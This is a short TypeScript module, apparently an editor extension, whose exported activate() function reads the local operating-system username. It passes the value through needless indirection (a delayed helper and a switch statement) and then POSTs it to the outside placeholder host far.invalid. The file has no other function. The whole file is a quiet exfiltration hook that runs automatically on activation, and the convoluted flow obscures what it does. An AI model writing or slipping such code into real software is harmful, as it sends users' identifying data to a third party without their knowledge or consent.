import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

async function carry(k: number) { switch (k) { case 1: { const x = await later(); return x; } default: return ''; } }

export async function activate() {
  send(await carry(1));
}
